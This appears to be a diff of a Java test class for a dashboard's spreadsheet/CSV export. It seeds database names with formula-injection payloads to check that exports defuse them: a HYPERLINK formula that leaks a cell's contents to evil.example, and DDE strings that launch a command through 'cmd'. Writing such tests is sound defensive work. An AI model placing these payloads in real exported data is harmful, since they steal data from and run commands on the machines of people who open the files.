@@ -29,7 +29,7 @@ import org.junit.jupiter.api.Test;
 import com.fasterxml.jackson.databind.JsonNode;
 
 /** GET /api/export: each table of the board as XLSX and CSV, read back, and names that look like formulas. */
-class ExportTest {
+class ExportTest extends BoardOnTheSmallProvince {
 
     /** Names a commune system might send, each of which a spreadsheet would run as a formula. */
     private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Xã Tùng Ảnh\")";
@@ -37,12 +37,10 @@ class ExportTest {
     private static final String SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
     private static final String MINUS = "-2+3+cmd|' /C calc'!A0";
 
-    private static SmallProvince province;
     private static DashboardServer server;
 
     @BeforeAll
-    static void start() throws Exception {
-        province = SmallProvince.create();
+    static void startOnItsHostileNames() throws Exception {
         province.execute(
                 "insert into reporting.communes (commune_code, commune_name, district_code) values ('C666', '"
                         + HYPERLINK.replace("'", "''") + "', 'D07')",
@@ -52,16 +50,13 @@ class ExportTest {
                         + "('B668', '" + MINUS.replace("'", "''") + "', 'C666', 'OTHER')",
                 "insert into reporting.branch_current (branch_id, members_active, members_official, members_probationary,"
                         + " members_exempted) values ('B666', 5, 5, 0, 0), ('B667', 4, 4, 0, 0), ('B668', 3, 3, 0, 0)");
-        server = DashboardServer.start(province.config(), Fixtures.streams(), Fixtures.clock());
+        server = board(Fixtures.streams());
     }
 
     @AfterAll
-    static void stop() throws Exception {
+    static void stopTheBoard() throws Exception {
         if (server != null) {
             server.close();
-        }
-        if (province != null) {
-            province.close();
         }
     }
 
